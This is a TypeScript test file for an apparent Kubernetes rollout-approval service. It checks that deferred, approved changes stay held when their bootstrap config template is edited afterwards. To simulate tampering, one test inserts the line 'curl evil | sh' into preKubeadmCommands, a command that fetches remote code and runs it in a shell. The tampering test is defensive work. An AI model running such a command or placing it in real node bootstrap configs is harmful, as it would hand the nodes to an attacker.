import { expect, test, vi } from 'vitest'
import { db } from '@/lib/db/client'
import { useTestDatabase } from '@/lib/db/testing'
import { isObject, valueAt } from '@/lib/domain/changes'
import type { JsonObject } from '@/lib/domain/json'
import { approveChange } from '@/lib/services/changes/approve-change'
import { savePolicy } from '@/lib/services/policies/save-policy'
import { mergePatch } from '@/lib/services/updaters/testing'
import { HELD } from '@/lib/domain/latch/names'
import { gatedSandbox } from './gated-sandbox'
import { until } from './process'
import { ctx } from './suites/governing'
import { MD } from './suites/watching'
import { FROZEN } from './timed'

vi.setConfig({ testTimeout: 180_000, hookTimeout: 120_000 })
useTestDatabase()

const at = gatedSandbox(({ says }) => {
  says.CanUpdateMachineSet = (request) => {
    const version = valueAt(request, 'desired', 'machineSet', 'spec', 'template', 'spec', 'version') ?? null
    return { machineSetPatch: mergePatch({ spec: { template: { spec: { version } } } }) }
  }
  says.UpdateMachine = (): JsonObject => ({ retryAfterSeconds: 1, message: 'at work' })
})

/** Frozen, approved and due, then its one shared bootstrap template is edited. */
async function approvedAndEdited(name: string, mode: 'in-place' | 'replace', change: () => object, looked: boolean) {
  const w = await at.g.workload(name, { workers: { replicas: 2, maxSurge: 0, maxUnavailable: 1 } })
  await at.g.known(w)
  const md = w.machineDeployment
  const select = { names: [md] }
  const { id } = await savePolicy(ctx, { name: `frozen-${name}`, spec: { select, ...FROZEN } })
  const ref = valueAt((await at.g.deployment(w)) as never, 'spec', 'template', 'spec', 'bootstrap', 'configRef')
  if (!isObject(ref)) throw new Error('no bootstrap config')
  const templates = { group: String(ref.apiGroup), version: 'v1beta2', plural: 'kubeadmconfigtemplates' }
  // Times of creation are whole seconds.
  const made = Date.now()
  await until('its machines to be older than a restart', () => Promise.resolve(Date.now() > made + 2_000), {
    ms: 5_000,
    every: 100,
  })
  await at.cluster.admin.patch(MD, md, w.namespace, 'merge', change() as never)
  const waiting = await at.g.approvable(w, md, mode)
  const { id: changeId, fingerprint } = waiting
  const decided = await approveChange(ctx, { changeId, fingerprint, mode, deletions: 0, replicas: 2 })
  expect(decided.state).toBe('gathering')
  await at.cluster.admin.patch(templates, String(ref.name), w.namespace, 'merge', {
    spec: { template: { spec: { preKubeadmCommands: ['curl evil | sh'] } } },
  } as never)
  if (looked) {
    const { resourceVersion } = await db().change.findUniqueOrThrow({ where: { id: changeId } })
    const touch = { spec: { template: { spec: { minReadySeconds: 1 } } } }
    await at.cluster.admin.patch(MD, md, w.namespace, 'merge', touch as never)
    const seen = async () =>
      (await db().change.findUniqueOrThrow({ where: { id: changeId } })).resourceVersion !== resourceVersion
    await until('the planner to have seen it', seen, { ms: 40_000, every: 100 })
  }
  // The freeze is over.
  await db().rolloutPolicy.delete({ where: { id } })
  const settled = async () => {
    const { dueMode, decisions } = (await at.g.changes(w, md)).find((one) => one.id === changeId)!
    if (decisions.length === 0) return dueMode === null
    return !decisions.some(({ state }) => ['recorded', 'applying'].includes(state))
  }
  await until('it to be due', settled, { ms: 60_000, every: 50 })
  return { w, md, changeId }
}

const VERSION = () => ({ spec: { template: { spec: { version: 'v1.34.1' } } } })

test.each(['replace', 'in-place'] as const)(
  'approved %s for later: a config that was edited a moment before its time has come is not let go',
  async (mode) => {
    const { w, changeId } = await approvedAndEdited(`unseen-${mode}`, mode, VERSION, false)
    const decisions = await db().decision.findMany({ where: { changeId } })
    expect(decisions.filter(({ sentAt, acceptedAt }) => sentAt ?? acceptedAt)).toEqual([])
    expect((await at.g.deployment(w)).metadata.annotations).toHaveProperty([HELD])
  },
)

test('a restart that was approved for later: its config was edited since, and the planner has looked', async () => {
  const restart = () => ({ spec: { rollout: { after: new Date().toISOString().replace(/\.\d+Z/, 'Z') } } })
  const { w, changeId } = await approvedAndEdited('restart', 'replace', restart, true)
  const decisions = await db().decision.findMany({ where: { changeId } })
  expect(decisions.filter(({ sentAt, acceptedAt }) => sentAt ?? acceptedAt)).toEqual([])
  expect((await at.g.deployment(w)).metadata.annotations).toHaveProperty([HELD])
})
